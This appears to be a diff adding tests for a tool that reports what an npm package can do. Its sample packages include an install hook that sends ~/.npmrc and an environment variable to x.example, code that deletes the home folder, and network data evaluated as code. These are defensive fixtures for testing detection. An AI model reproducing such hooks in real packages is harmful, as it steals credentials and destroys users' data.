@@ -1,0 +1,227 @@
+import t from 'tap'
+import { renderCapabilities } from '../../../lib/report/capabilities.ts'
+import { createDrawing } from '../../../lib/report/human.ts'
+import { describeScript } from '../../../lib/report/script.ts'
+import type { Example } from '../../../lib/types.ts'
+import { inspectExample } from '../../helpers/inspect-example.ts'
+
+type Files = Example['files']
+
+const wide = {
+  ...createDrawing({ isTTY: false, columns: 100, env: { LANG: 'C.UTF-8' }, verbose: true }),
+  width: 400,
+}
+
+/** Code without any way out of the package is not followed at all, so that it says nothing about what it reads. */
+const opening = "require('http').get('http://x.example')\n"
+
+/** The report on a package that is only these files. */
+function reportOn(files: Files): string {
+  return renderCapabilities(inspectExample({ files }), wide).join('\n')
+}
+
+const manifest = (more: object): string => JSON.stringify({ name: 'a', version: '1.0.0', ...more })
+const loaded = (code: string): Files => ({ 'package.json': manifest({ main: 'i.js' }), 'i.js': code })
+const installed = (code: string): Files => ({
+  'package.json': manifest({ scripts: { postinstall: 'node i.js' } }),
+  'i.js': code,
+})
+
+t.test('says what a package can do, once each, with the place', t => {
+  const rows: readonly (readonly [string, Files, readonly (string | RegExp)[], readonly RegExp[]])[] = [
+    [
+      'variables are one line, however many, and secret ones another',
+      loaded(
+        `${opening}const e = process.env; module.exports = [e.AA_MODE,\n  e.BB_MODE,\n  e.CC_MODE, e.MY_TOKEN]\n`,
+      ),
+      [
+        '  reads the secret environment variable MY_TOKEN · i.js:4\n  reads 3 environment variables: AA_MODE, BB_MODE, CC_MODE · i.js:2, i.js:3 and 1 more place',
+      ],
+      [/BB_MODE · i\.js:3/],
+    ],
+    [
+      'a path is no personal access token, and an author no authorisation',
+      loaded(
+        `${opening}module.exports = [process.env.TOOL_BINARY_PATH, process.env.GIT_AUTHOR_NAME, process.env.GH_PAT]\n`,
+      ),
+      [
+        'the secret environment variable GH_PAT',
+        '2 environment variables: GIT_AUTHOR_NAME, TOOL_BINARY_PATH',
+      ],
+      [/secret environment variable TOOL/],
+    ],
+    [
+      'authorisation stays a secret',
+      loaded(`${opening}module.exports = [process.env.PROXY_AUTHORIZATION, process.env.NPM_AUTH]\n`),
+      ['2 secret environment variables: NPM_AUTH, PROXY_AUTHORIZATION'],
+      [],
+    ],
+    [
+      'a computed name is not the whole environment',
+      loaded(`${opening}exports.get = name => process.env[name]\n`),
+      [/reads environment variables whose names are computed · i\.js:2/],
+      [/whole environment/],
+    ],
+    [
+      'one statement with several outcomes is one line',
+      installed(
+        "const c = require('child_process')\nfor (const p of ['tool-a', 'tool-b', 'tool-c'])\n  c.execFileSync(p, ['--version'])\n",
+      ),
+      ['  postinstall: node i.js · package.json:1\n', /starts tool-\w --version or 2 others · i\.js:3/],
+      [/starts tool-.*\n.*starts tool-/, /starts node i\.js/],
+    ],
+    [
+      'equal lines of two places are one',
+      loaded("const fs = require('fs')\nfs.unlinkSync('old.log')\nfs.unlinkSync('old.log')\n"),
+      ['  deletes old.log · i.js:2, i.js:3'],
+      [],
+    ],
+    [
+      'what was never put together is not printed as undefined',
+      loaded("const fs = require('fs')\nlet at\nexports.go = x => fs.writeFileSync(`${at}/log.txt`, x)\n"),
+      [/writes \$\{…\}\/log\.txt · i\.js:3/],
+      [/undefined/],
+    ],
+    [
+      'only names of machines count as contacted',
+      loaded(
+        "const a = require('axios')\nexports.go = u => a({ method: 'post', url: u, headers: { Accept: 'x' } })\nexports.at = () => a.get('https://t.me/x')\n",
+      ),
+      ['contacts t.me · i.js:3', 'contacts an address that is computed (axios) · i.js:2'],
+      [/contacts.*(?:post|accept)/i],
+    ],
+    [
+      'a downloader that knows its own addresses contacts them',
+      installed(
+        "const { downloadArtifact } = require('@electron/get')\ndownloadArtifact({ version: '1.0.0' })\n",
+      ),
+      ['contacts an address that is computed (@electron/get.downloadArtifact) · i.js:2'],
+      [],
+    ],
+    [
+      'a renamed request client is a request client',
+      installed(
+        "const r = require('@cypress/request')\nr({ url: 'https://download.example/x.zip' }, () => {})\n",
+      ),
+      ['contacts download.example · i.js:2'],
+      [],
+    ],
+    [
+      'a tilde that is expanded is not the home folder',
+      installed(
+        "const fs = require('fs')\nconst dir = require('untildify')(process.env.CACHE_FOLDER)\nfs.rmSync(dir, { recursive: true })\n",
+      ),
+      ['deletes a path that is computed · i.js:3'],
+      [/deletes ~/],
+    ],
+    [
+      'the home folder is said as it is',
+      installed("const fs = require('fs')\nfs.rmSync(require('os').homedir(), { recursive: true })\n"),
+      ['deletes ~ · i.js:2'],
+      [],
+    ],
+    [
+      'a bound method for a timer is no code from text',
+      loaded('exports.later = s => setTimeout(s.destroy.bind(s), 10)\n'),
+      [],
+      [/evaluates/],
+    ],
+    [
+      'text for a timer is code',
+      loaded("require('https').get('https://x.example', r => r.on('data', d => setTimeout(d, 1)))\n"),
+      ['evaluates computed code', 'passes the answer of x.example → code that is evaluated'],
+      [],
+    ],
+    [
+      'a server listens',
+      loaded("exports.serve = () => require('http').createServer(() => {}).listen(80)\n"),
+      ['listens to connections · i.js:1'],
+      [],
+    ],
+    [
+      'members of one prototype are one line, and private fields of an instance none',
+      loaded(
+        "Array.prototype.one = 1\nArray.prototype.two = 2\nclass A extends require('stream').Duplex { go() { this._x = 1 } }\nexports.A = A\n",
+      ),
+      ['patches Array.prototype: one, two · i.js:1, i.js:2'],
+      [/patches node:/],
+    ],
+    [
+      'ten parameters into one request are one line',
+      loaded(
+        "const h = require('https')\nexports.a = (one, two, three, four) => { const r = h.request('https://x.example'); r.write(one); r.write(two); r.write(three); r.end(four) }\n",
+      ),
+      [/passes what a caller gives \(.*and 1 more\) → the network, x\.example · i\.js:2/],
+      [/passes what a caller gives.*\n.*passes what a caller gives/],
+    ],
+    [
+      'secrets that leave are said first',
+      installed(
+        "const f = require('fs'), h = require('https')\nconst r = h.request('https://x.example')\nr.write(process.env.MODE_X)\nr.write(f.readFileSync(require('os').homedir() + '/.npmrc'))\n",
+      ),
+      [
+        /passes the credential file ~\/\.npmrc → the network, x\.example[^\n]*\n {2}passes the environment variable MODE_X/,
+      ],
+      [],
+    ],
+    [
+      'a command of binding.gyp is said once',
+      {
+        'package.json': manifest({}),
+        'binding.gyp': '{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"1\\")"] }] }',
+      },
+      ['install: node-gyp rebuild (implied by binding.gyp)', /starts node -p .*binding\.gyp/],
+      [/starts node.*\n.*starts node/],
+    ],
+  ]
+  for (const [name, files, has, lacks] of rows) {
+    const text = reportOn(files)
+    for (const part of has)
+      t.ok(typeof part === 'string' ? text.includes(part) : part.test(text), name, { text, part })
+    for (const part of lacks) t.notMatch(text, part, name)
+  }
+  t.end()
+})
+
+t.test('a long list of one verb is cut, and says what it leaves out', t => {
+  const lines = Array.from({ length: 40 }, (_, at) => `fs.writeFileSync('out-${at}.txt', '')`)
+  const text = reportOn(loaded(`const fs = require('fs')\n${lines.join('\n')}\n`))
+  t.match(text, /writes 36 more: out-\d+\.txt, out-\d+\.txt, out-\d+\.txt and 33 more · i\.js:\d+/)
+  t.ok(text.split('\n').length < 10)
+  t.end()
+})
+
+t.test('a script is described in the words of the report', t => {
+  const inspection = inspectExample({
+    files: installed(
+      "const c = require('child_process')\nfor (const p of ['tool-a', 'tool-b', 'tool-c']) c.execFileSync(p, ['--version'])\n",
+    ),
+  })
+  t.match(
+    describeScript(inspection, inspection.hooks[0]!),
+    /^postinstall: node i\.js — starts tool-\w --version or 2 others; itself reads no credentials$/,
+  )
+  t.end()
+})
+
+t.test('what code on the line of a script does, and what it loads, is described', t => {
+  const rows: readonly (readonly [string, RegExp])[] = [
+    [
+      `node -e "try{require('./own')}catch(e){}"`,
+      /writes \/tmp\/seen; reads the credential file ~\/\.npmrc$/,
+    ],
+    [
+      `node -e "require('fs').readFileSync(require('os').homedir() + '/.npmrc')"`,
+      /reads the credential file ~\/\.npmrc$/,
+    ],
+  ]
+  const own =
+    "const f = require('fs')\nf.readFileSync(require('os').homedir() + '/.npmrc')\nf.writeFileSync('/tmp/seen', '')\n"
+  for (const [postinstall, described] of rows) {
+    const inspection = inspectExample({
+      files: { 'package.json': manifest({ scripts: { postinstall } }), 'own.js': own },
+    })
+    t.match(describeScript(inspection, inspection.hooks[0]!), described, postinstall)
+  }
+  t.end()
+})
